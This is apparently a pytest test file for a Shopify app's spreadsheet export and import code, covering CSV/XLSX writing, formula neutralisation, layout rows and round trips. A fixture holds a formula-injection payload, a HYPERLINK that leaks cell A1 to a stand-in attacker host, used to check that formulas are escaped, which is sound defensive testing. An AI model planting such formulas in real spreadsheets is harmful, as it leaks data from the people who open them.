"""Writing CSV/XLSX, formula neutralisation, layouts, round trips, failed rows."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from shopify_app.spreadsheets import (
    SHELF_NUMERIC,
    SHOPIFY_HEADERS,
    SHOPIFY_NUMERIC,
    CellTooLongError,
    ExportImage,
    ExportProduct,
    ExportVariant,
    open_sheet,
    read_changes,
    shelf_headers,
    shelf_rows,
    shopify_rows,
    write_csv,
    write_failed_rows,
    write_xlsx,
)

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

SHIRT = ExportProduct(
    id="gid://shopify/Product/1", handle="linen-shirt", title="Linen Shirt", vendor="Nord",
    product_type="Shirts", status="ACTIVE", tags=("linen", "summer"),
    description_html="<p>Breathable, light</p>", seo_title="Linen", seo_description=HOSTILE,
    variants=(ExportVariant("gid://shopify/ProductVariant/11", "LS-S", "59.00", "79.00",
                            (("Size", "S"), ("Color", "Sand"))),
              ExportVariant("gid://shopify/ProductVariant/12", "LS-M", "59.00", None,
                            (("Size", "M"), ("Color", "Sand")))),
    images=(ExportImage("gid://shopify/MediaImage/21", 1, "https://cdn.example/a.jpg", "Front",
                        proposed_alt="Linen shirt, front"),
            ExportImage("gid://shopify/MediaImage/22", 2, "https://cdn.example/b.jpg", "+1 back"),
            ExportImage("gid://shopify/MediaImage/23", 3, "https://cdn.example/c.jpg", None)),
    proposed={"description_html": "<p>New</p>", "seo_title": "Linen shirt for summer"},
)
COLUMNS = ["id", "handle", "title", "tags", "description_html", "seo_title", "seo_description",
           "image_id", "image_position", "image_alt", "variant_id", "sku", "price",
           "compare_at_price"]


def test_csv_is_excel_friendly_and_neutralises_formulas() -> None:
    out = io.BytesIO()
    write_csv(out, ["handle", "note", "price"],
              [["a", HOSTILE, "-12.50"], ["b", "@SUM(A1)", "=1+1"], ["c", "-not a number", ""]],
              numeric=["price"])
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data and b"\n" not in data.replace(
        b"\r\n", b"")
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[1] == 'a,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",-12.50'
    assert lines[2] == "b,'@SUM(A1),'=1+1"  # a formula in a numeric column is still text
    assert lines[3] == "c,'-not a number,"
    # read back: the quote comes off again, so the round trip is lossless
    with open_sheet(io.BytesIO(data)) as sheet:
        rows = [r.cells for r in sheet.rows()]
    assert rows[0] == ("a", HOSTILE, "-12.50") and rows[1] == ("b", "@SUM(A1)", "=1+1")


def test_xlsx_stores_formulas_as_text_and_numbers_as_numbers() -> None:
    out = io.BytesIO()
    write_xlsx(out, ["handle", "note", "price"], [["a", HOSTILE, "-12.50"], ["b", "x", "=1+1"]],
               numeric=["price"])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells[0] == [("a", "s"), (HOSTILE, "s"), (-12.5, "n")]
    assert cells[1][2] == ("=1+1", "s")


def test_xlsx_refuses_a_cell_excel_cannot_hold() -> None:
    with pytest.raises(CellTooLongError, match="Export as CSV") as caught:
        write_xlsx(io.BytesIO(), ["handle", "description_html"], [["a", "x" * 40_000]])
    assert caught.value.column == "description_html" and caught.value.row == 2


def test_shelf_layout_rows() -> None:
    headers = shelf_headers(COLUMNS, proposed=["description_html", "seo_title", "image_alt"])
    assert headers[4:8] == ["description_html", "proposed_description_html", "seo_title",
                            "proposed_seo_title"]
    rows = [dict(zip(headers, r, strict=True)) for r in shelf_rows(
        SHIRT, COLUMNS, proposed=["description_html", "seo_title", "image_alt"])]
    assert len(rows) == 3  # 2 variants beside 3 images
    assert rows[0]["title"] == "Linen Shirt" and rows[0]["tags"] == "linen, summer"
    assert rows[0]["proposed_seo_title"] == "Linen shirt for summer"
    assert rows[0]["proposed_image_alt"] == "Linen shirt, front"
    assert rows[1]["title"] is None and rows[1]["handle"] == "linen-shirt"  # keys on every row
    assert rows[2]["sku"] is None and rows[2]["image_position"] == 3


def test_unknown_export_columns_are_refused() -> None:
    with pytest.raises(ValueError, match="colour, proposed_price"):
        shelf_headers(["id", "colour"], proposed=["price"])


@pytest.mark.parametrize("writer", [write_csv, write_xlsx], ids=["csv", "xlsx"])
def test_round_trip_of_our_export_changes_exactly_what_it_holds(writer) -> None:
    out = io.BytesIO()
    headers = shelf_headers(COLUMNS)
    writer(out, headers, shelf_rows(SHIRT, COLUMNS), numeric=SHELF_NUMERIC)
    out.seek(0)
    result = read_changes(out)
    assert result.changes.failed == []
    found = {(c.target.key, c.field): c.value for c in result.changes.changes()}
    product = ("product", "id", "gid://shopify/Product/1")
    assert found[(product, "seo_description")] == HOSTILE  # neutralised out, intact back in
    assert found[(product, "tags")] == ("linen", "summer")
    assert found[(("variant", "id", "gid://shopify/ProductVariant/11"), "price")] == "59.00"
    assert found[(("variant", "id", "gid://shopify/ProductVariant/11"),
                  "compare_at_price")] == "79.00"
    assert found[(("image", "id", "gid://shopify/MediaImage/22"), "image_alt")] == "+1 back"
    assert (("image", "id", "gid://shopify/MediaImage/23"), "image_alt") not in found


def test_shopify_layout_matches_shopify_and_reads_back() -> None:
    rows = list(shopify_rows(SHIRT))
    assert len(rows) == 3
    first = dict(zip(SHOPIFY_HEADERS, rows[0], strict=True))
    assert first["Option1 Name"] == "Size" and first["Option1 Value"] == "S"
    assert first["Option2 Name"] == "Color" and first["Status"] == "active"
    third = dict(zip(SHOPIFY_HEADERS, rows[2], strict=True))
    assert third["Title"] is None and third["Variant SKU"] is None
    assert third["Image Position"] == 3 and third["Handle"] == "linen-shirt"
    out = io.BytesIO()
    write_csv(out, SHOPIFY_HEADERS, rows, numeric=SHOPIFY_NUMERIC)
    out.seek(0)
    result = read_changes(out)
    assert result.mapping.layout == "shopify" and result.changes.failed == []
    found = {(c.target.key, c.field): c.value for c in result.changes.changes()}
    assert found[(("variant", "sku", "LS-M"), "price")] == "59.00"
    assert found[(("image", "position", "product", "handle", "linen-shirt", 2),
                  "image_alt")] == "+1 back"


def test_failed_rows_file_keeps_the_rows_and_adds_the_reason() -> None:
    source = io.BytesIO(b"sku,price,note\nA,1.00,ok\nB,12,9O,x\nC,=2+2,\n")
    result = read_changes(source)
    out = io.BytesIO()
    assert write_failed_rows(out, result.headers, result.changes.failed) == 2
    out.seek(0)
    with open_sheet(out) as sheet:
        assert sheet.headers == ("sku", "price", "note", "error")
        rows = [r.cells for r in sheet.rows()]
    assert rows[0][:3] == ("B", "12", "9O") and rows[0][3].startswith("Line 3: This row has 4")
    assert rows[1][:2] == ("C", "=2+2") and 'Price "=2+2" is not a number' in rows[1][3]
    assert b"'=2+2" in out.getvalue()  # neutralised in the file itself
    # uploading the failed-rows file again reuses its error column
    out.seek(0)
    again = read_changes(out)
    out2 = io.BytesIO()
    write_failed_rows(out2, again.headers, again.changes.failed)
    assert out2.getvalue().decode("utf-8-sig").splitlines()[0] == "sku,price,note,error"


def test_a_product_without_variants_or_images_is_one_row() -> None:
    bare = ExportProduct(id="gid://shopify/Product/5", handle="gift-card", title="Gift card",
                         status="DRAFT")
    (row,) = shopify_rows(bare)
    assert row[0] == "gift-card" and row[-1] == "draft"
    (ours,) = shelf_rows(bare, ["id", "handle", "image_alt", "sku"])
    assert ours == ["gid://shopify/Product/5", "gift-card", None, None]
